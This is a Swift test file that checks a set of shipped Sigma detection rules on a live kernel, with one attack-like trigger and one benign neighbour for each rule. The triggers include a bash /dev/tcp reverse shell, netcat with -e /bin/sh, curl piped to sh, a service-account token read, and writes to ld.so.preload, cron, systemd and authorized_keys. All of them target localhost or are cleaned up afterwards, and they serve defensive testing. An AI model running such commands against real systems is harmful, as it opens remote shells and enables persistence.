import Foundation
import Testing
import TestSupport

extension KernelSuite {
    /// The Sigma rules shipped in Rules/sigma, each on its real trigger on this machine
    /// (in a runc container where the rule is about containers), and on the same program
    /// used normally, which must not fire it.
    @Suite("Shipped Sigma rules on the real kernel", .serialized)
    struct ShippedSigmaKernelTests {
        typealias Live = LiveKernelTests

        /// One rule's trigger and neighbour: which events are which.
        struct Case {
            let rule: String
            let trigger: ([String: Any]) -> Bool
            let neighbour: ([String: Any]) -> Bool
        }

        static func title(ofRule file: String) throws -> String {
            let text = try String(contentsOf: Fixtures.repositoryRoot.appendingPathComponent("Rules/sigma/\(file).yml"), encoding: .utf8)
            return String(text.split(separator: "\n").first { $0.hasPrefix("title: ") }!.dropFirst("title: ".count))
        }

        static func titles(_ event: [String: Any]) -> [String] {
            ((event["detections"] as? [[String: Any]]) ?? []).compactMap { $0["title"] as? String }
        }

        static func isExec(_ event: [String: Any], argv0: String? = nil, containing token: String) -> Bool {
            let argv = Live.argv(event)
            return event["category"] as? String == "exec" && argv.contains { $0.contains(token) } && (argv0 == nil || argv.first == argv0)
        }

        static func touches(_ event: [String: Any], _ token: String) -> Bool {
            ((event["paths"] as? [[String: Any]]) ?? []).contains { ($0["name"] as? String)?.contains(token) == true }
        }

        static func sh(_ script: String) throws {
            _ = try Command.run("/bin/sh", ["-c", script])
        }

        @Test("every shipped rule fires on its trigger, only there, and not on its neighbour")
        func triggersAndNeighbours() throws {
            try #require(RuncContainer.isAvailable, "runc and busybox-static are needed: run Scripts/setup --test")
            let m = Live.marker()
            let scratch = try Fixtures.temporaryDirectory("shipped-sigma")
            defer { try? FileManager.default.removeItem(at: scratch) }
            // The watched directories must be there when the rules load.
            let fm = FileManager.default
            let ssh = URL(fileURLWithPath: "/root/.ssh")
            let madeSSH = !fm.fileExists(atPath: ssh.path)
            if madeSSH { try fm.createDirectory(at: ssh, withIntermediateDirectories: false, attributes: [.posixPermissions: 0o700]) }
            defer { if madeSSH { try? fm.removeItem(at: ssh) } }
            try #require(!fm.fileExists(atPath: "/etc/ld.so.preload"), "this machine has an /etc/ld.so.preload: the trigger would change it")
            let container = try RuncContainer(script: "sleep 120")
            defer { container.remove() }
            let runc = Command.which("runc")!
            func inContainer(_ arguments: [String]) throws { _ = try Command.run(runc, ["exec", container.id] + arguments) }
            var modulePID = ""

            let shippedRules = Fixtures.repositoryRoot.appendingPathComponent("Rules/sigma").path
            let run = try Live.withLiveRun(["--sigma", shippedRules, "--records"]) { live in
                try container.start()
                // In the container.
                _ = try container.execInteractive(["true \(m)-tty"])
                try inContainer(["/bin/sh", "-c", "true \(m)-notty"])
                try inContainer(["nsenter", "-t", "1", "-m", "--", "true", "\(m)-nsenter"])
                try inContainer(["unshare", "-U", "true", "\(m)-unshare"])
                try inContainer(["mount", "/dev/sda1", "/mnt", "-o", "ro,\(m)"])
                try inContainer(["mount", "-t", "tmpfs", "none", "/tmp", "-o", "size=1m,\(m)"])
                // On the node: the same programs used normally, then the triggers.
                _ = try Command.run("/usr/bin/nsenter", ["-t", "1", "-m", "--", "true", "\(m)-host-nsenter"])
                _ = try Command.run("/usr/bin/unshare", ["-n", "true", "\(m)-host-unshare"])
                _ = try Command.run("/bin/cat", ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/tmp/\(m)-token"])
                _ = try Command.run("/bin/cat", ["/tmp/\(m)-tokens.txt"])
                try Self.sh("echo > /etc/containerd/\(m).toml; rm -f /etc/containerd/\(m).toml")
                _ = try Command.run("/bin/true", ["--donate-level", "1", "\(m)-miner"])
                _ = try Command.run("/bin/true", ["--level", "1", "\(m)-notminer"])
                try Self.sh("curl -s file:///dev/null | sh; true \(m)-pipe")
                try Self.sh("curl -s -o /dev/null file:///dev/null; true \(m)-nopipe")
                _ = try Command.run("/bin/bash", ["-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1; true \(m)-devtcp"])
                _ = try Command.run("/bin/bash", ["-i", "-c", "true \(m)-bash"])
                _ = try Command.run("/bin/busybox", ["nc", "-e", "/bin/sh", "127.0.0.1", "9", "\(m)-nc"])
                _ = try Command.run("/bin/busybox", ["nc", "-z", "127.0.0.1", "9", "\(m)-ncscan"])
                let file = scratch.appendingPathComponent("\(m)-file").path
                try Self.sh("touch \(file)")
                _ = try Command.run("/bin/chmod", ["u+x", file])
                _ = try Command.run("/bin/chmod", ["u+s", file])
                let module = try Command.run("/usr/bin/python3", ["-c", """
                    import ctypes, os
                    fd = os.open("/dev/null", os.O_RDONLY)
                    ctypes.CDLL(None, use_errno=True).syscall(313, fd, b"", 0)
                    print(os.getpid())
                    """])
                modulePID = module.stdoutText.trimmingCharacters(in: .whitespacesAndNewlines)
                _ = try Command.run("/bin/sh", ["-c", "lsmod > /dev/null; true \(m)-lsmod"])
                _ = try Command.run("/sbin/auditctl", ["-D", "-k", "\(m)-none"])
                _ = try Command.run("/sbin/auditctl", ["-s"])
                try Self.sh("unset HISTFILE; true \(m)-history")
                try Self.sh("rm -f /tmp/\(m)/.bash_history; true \(m)-rmhistory")
                try Self.sh("rm -f /tmp/\(m)-notes.txt")
                try Self.sh(": > /etc/ld.so.preload; rm -f /etc/ld.so.preload; true \(m)-preload")
                try Self.sh("echo '# nodeaudit test' > /etc/cron.d/\(m); rm -f /etc/cron.d/\(m)")
                try Self.sh("echo '# nodeaudit test' > /etc/systemd/system/\(m).service; rm -f /etc/systemd/system/\(m).service")
                try Self.sh("echo '# nodeaudit test' > /root/.ssh/authorized_keys.\(m); rm -f /root/.ssh/authorized_keys.\(m)")
                try Self.sh("echo '# nodeaudit test' > /root/.ssh/known_hosts.\(m); rm -f /root/.ssh/known_hosts.\(m)")
                try #require(try live.barrier(), "the events did not reach the output")
            }
            let events = try run.events()
            let containerID = container.id
            func inTheContainer(_ event: [String: Any]) -> Bool { (event["container"] as? [String: Any])?["id"] as? String == containerID }
            func writes(_ token: String) -> ([String: Any]) -> Bool { { Self.touches($0, token) && $0["category"] as? String != "exec" } }

            let cases: [Case] = [
                Case(rule: "container-interactive-shell",
                     trigger: { inTheContainer($0) && Live.argv($0) == ["/bin/sh"] && ($0["exec_session"] as? [String: Any])?["tty"] as? Bool == true },
                     neighbour: { Self.isExec($0, containing: "\(m)-notty") }),
                Case(rule: "nsenter-from-container", trigger: { Self.isExec($0, argv0: "nsenter", containing: "\(m)-nsenter") },
                     neighbour: { Self.isExec($0, argv0: "/usr/bin/nsenter", containing: "\(m)-host-nsenter") }),
                Case(rule: "unshare-from-container", trigger: { Self.isExec($0, argv0: "unshare", containing: "\(m)-unshare") },
                     neighbour: { Self.isExec($0, argv0: "/usr/bin/unshare", containing: "\(m)-host-unshare") }),
                Case(rule: "host-disk-mount-from-container", trigger: { Self.isExec($0, argv0: "mount", containing: "ro,\(m)") },
                     neighbour: { Self.isExec($0, argv0: "mount", containing: "size=1m,\(m)") }),
                Case(rule: "service-account-token-read", trigger: { Self.isExec($0, containing: "/tmp/\(m)-token") },
                     neighbour: { Self.isExec($0, containing: "/tmp/\(m)-tokens.txt") }),
                Case(rule: "node-config-write", trigger: writes("/etc/containerd/\(m)"), neighbour: writes("/etc/cron.d/\(m)")),
                Case(rule: "cryptominer-arguments", trigger: { Self.isExec($0, containing: "\(m)-miner") },
                     neighbour: { Self.isExec($0, containing: "\(m)-notminer") }),
                Case(rule: "download-piped-to-shell", trigger: { Self.isExec($0, argv0: "/bin/sh", containing: "\(m)-pipe") },
                     neighbour: { Self.isExec($0, argv0: "/bin/sh", containing: "\(m)-nopipe") }),
                Case(rule: "reverse-shell-dev-tcp", trigger: { Self.isExec($0, argv0: "/bin/bash", containing: "\(m)-devtcp") },
                     neighbour: { Self.isExec($0, argv0: "/bin/bash", containing: "\(m)-bash") }),
                Case(rule: "reverse-shell-netcat", trigger: { Self.isExec($0, containing: "\(m)-nc") && !Self.isExec($0, containing: "\(m)-ncscan") },
                     neighbour: { Self.isExec($0, containing: "\(m)-ncscan") }),
                Case(rule: "setuid-file-created", trigger: { Self.isExec($0, containing: "\(m)-file") && Live.argv($0).contains("u+s") },
                     neighbour: { Self.isExec($0, containing: "\(m)-file") && Live.argv($0).contains("u+x") }),
                Case(rule: "kernel-module-load", trigger: { String(Live.pid($0) ?? -1) == modulePID && Live.syscallName($0) == "finit_module" },
                     neighbour: { Self.isExec($0, containing: "\(m)-lsmod") }),
                Case(rule: "audit-tampering", trigger: { Self.isExec($0, containing: "\(m)-none") },
                     neighbour: { Live.argv($0) == ["/sbin/auditctl", "-s"] }),
                Case(rule: "shell-history-cleared",
                     trigger: { Self.isExec($0, containing: "\(m)-history") || Self.isExec($0, containing: "\(m)-rmhistory")
                         || Self.isExec($0, argv0: "rm", containing: "/tmp/\(m)/.bash_history") },
                     neighbour: { Self.isExec($0, argv0: "/bin/sh", containing: "\(m)-notes.txt") }),
                Case(rule: "ld-so-preload-write", trigger: { Self.touches($0, "ld.so.preload") && $0["category"] as? String != "exec" },
                     neighbour: writes("/etc/systemd/system/\(m)")),
                Case(rule: "cron-persistence", trigger: writes("/etc/cron.d/\(m)"), neighbour: writes("/etc/containerd/\(m)")),
                Case(rule: "systemd-persistence", trigger: writes("/etc/systemd/system/\(m)"), neighbour: writes("/etc/cron.d/\(m)")),
                Case(rule: "ssh-authorized-keys-write", trigger: writes("authorized_keys.\(m)"), neighbour: writes("known_hosts.\(m)")),
            ]
            let shipped = try FileManager.default.contentsOfDirectory(atPath: Fixtures.repositoryRoot.appendingPathComponent("Rules/sigma").path)
                .filter { $0.hasSuffix(".yml") }.map { String($0.dropLast(4)) }
            #expect(Set(cases.map(\.rule)) == Set(shipped), "every shipped rule has a trigger here")
            for test in cases {
                let title = try Self.title(ofRule: test.rule)
                let triggers = events.filter(test.trigger)
                let neighbours = events.filter(test.neighbour)
                #expect(!triggers.isEmpty && !neighbours.isEmpty, "\(test.rule): \(triggers.count) trigger and \(neighbours.count) neighbour events seen")
                #expect(triggers.contains { Self.titles($0).contains(title) }, "\(test.rule) did not fire on its trigger: \(triggers.map(Self.titles))")
                #expect(!neighbours.contains { Self.titles($0).contains(title) }, "\(test.rule) fired on its neighbour")
                let elsewhere = events.filter { Self.titles($0).contains(title) && !test.trigger($0) }
                #expect(elsewhere.isEmpty, "\(test.rule) also fired on \(elsewhere.prefix(3).map { "\($0["id"] ?? "") \(Live.argv($0))" })")
            }

            // The oracle on the triggers' records: the same log, offline, matched by both.
            // (Offline there is no container attribution: the container rules match neither.)
            let log = scratch.appendingPathComponent("triggers.log")
            try SigmaOracle.rawLog(ofEvents: events).write(to: log, atomically: true, encoding: .utf8)
            let oracle = try SigmaOracle.disagreements(rules: [shippedRules], logs: [log.path])
            #expect(oracle.differences.isEmpty, "\(oracle.differences)")
            #expect(oracle.matching >= 12, "\(oracle.matching) of \(oracle.rules) shipped rules matched offline")
        }
    }
}
